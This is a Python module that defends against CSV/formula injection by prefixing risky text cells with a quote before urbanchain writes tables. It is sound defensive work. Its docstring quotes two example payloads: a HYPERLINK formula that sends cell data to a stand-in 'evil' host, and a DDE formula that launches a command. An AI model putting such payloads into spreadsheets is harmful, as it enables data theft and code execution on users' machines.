"""Spreadsheet formula neutralisation for every table urbanchain writes (CSV, Excel).

A spreadsheet opening a CSV treats a cell that starts with ``=``, ``+``, ``-``, ``@``,
a tab or a carriage return as a formula (CSV/formula injection:
``=HYPERLINK("http://evil/?"&A1)``, ``=cmd|' /C calc'!A0``). Following OWASP's
"CSV Injection" guidance, urbanchain prefixes such **text** cells with a single quote
``'``, which spreadsheets show literally and do not evaluate.

* Only text is changed: numbers (``-3.5``, ``-inf``), booleans and missing values are
  written as they are; a negative number is not a formula.
* Index values, index names and column names are treated like cells.
* The caller's DataFrame is never changed: :func:`neutralise_formulas` returns a copy.

Reuse :func:`neutralise_formulas` (or :func:`safe_cell`) in any new writer (Excel
included). See docs/security.md.

References
----------
OWASP, "CSV Injection", https://owasp.org/www-community/attacks/CSV_Injection
"""

from __future__ import annotations

from collections.abc import Hashable
from pathlib import Path
from typing import Any

import pandas as pd

__all__ = ["FORMULA_PREFIXES", "neutralise_formulas", "safe_cell", "write_csv"]

#: First characters that make a spreadsheet read a text cell as a formula.
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    """Return ``value`` with a leading ``'`` if it is text a spreadsheet would evaluate.

    Parameters
    ----------
    value
        A cell, index value or column name.

    Returns
    -------
    Any
        ``"'" + value`` for a string starting with one of :data:`FORMULA_PREFIXES`;
        anything else unchanged (numbers included).

    Examples
    --------
    >>> safe_cell("=1+1"), safe_cell("-2"), safe_cell(-2), safe_cell("Hà Nội")
    ("'=1+1", "'-2", -2, 'Hà Nội')
    """
    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES):
        return "'" + value
    if isinstance(value, tuple):
        return tuple(safe_cell(v) for v in value)
    return value


def _safe_labels(labels: pd.Index) -> pd.Index:
    if isinstance(labels, pd.MultiIndex):
        multi: pd.Index = pd.MultiIndex.from_tuples(
            [safe_cell(t) for t in labels], names=[safe_cell(n) for n in labels.names]
        )
        return multi
    if labels.dtype == object or pd.api.types.is_string_dtype(labels.dtype):
        flat: pd.Index = pd.Index(
            [safe_cell(v) for v in labels], name=safe_cell(labels.name), tupleize_cols=False
        )
        return flat
    renamed: pd.Index = labels.rename(safe_cell(labels.name))
    return renamed


def neutralise_formulas(df: pd.DataFrame | pd.Series) -> pd.DataFrame:
    """Return a copy of ``df`` in which no text cell can run as a spreadsheet formula.

    Parameters
    ----------
    df
        A table (a Series is turned into a one-column frame).

    Returns
    -------
    pandas.DataFrame
        A new frame: text cells, index values and labels that start with ``=``, ``+``,
        ``-``, ``@``, tab or CR get a leading ``'``; numeric columns are the same
        objects' values. ``df`` itself is not modified.

    Examples
    --------
    >>> import pandas as pd
    >>> t = pd.DataFrame({"id": ["=1+0", "ha_noi"], "change": [-1.5, 2.0]})
    >>> neutralise_formulas(t)["id"].tolist(), t["id"].tolist()
    (["'=1+0", 'ha_noi'], ['=1+0', 'ha_noi'])
    """
    frame = df.to_frame() if isinstance(df, pd.Series) else df
    out = frame.copy()
    for position in range(frame.shape[1]):
        values = frame.iloc[:, position]
        if values.dtype == object or pd.api.types.is_string_dtype(values.dtype):
            out.isetitem(position, values.map(safe_cell).to_numpy(dtype=object))
    out.columns = _safe_labels(frame.columns)
    out.index = _safe_labels(frame.index)
    out.attrs = dict(frame.attrs)
    return out


def write_csv(df: pd.DataFrame | pd.Series, path: Path, *, index: bool | Hashable = True) -> Path:
    """Write ``df`` as UTF-8 CSV (RFC 4180, CRLF) with formulas neutralised, atomically.

    Parameters
    ----------
    df
        The table.
    path
        Target file; written through a temporary file in the same folder and renamed
        into place, so a failed write never leaves a partial table.
    index
        Write the index (as :meth:`pandas.DataFrame.to_csv`).

    Returns
    -------
    pathlib.Path
        ``path``.
    """
    from urbanchain._private._atomic import atomic_path

    safe = neutralise_formulas(df)
    with atomic_path(Path(path)) as tmp:
        # RFC 4180 line ends: the csv module quotes a field holding any character of
        # the line terminator, so with "\r\n" a cell with a bare CR is quoted too
        # (with pandas' default "\n" it is not, and the row silently splits).
        safe.to_csv(tmp, index=bool(index), lineterminator="\r\n", encoding="utf-8")
    return Path(path)
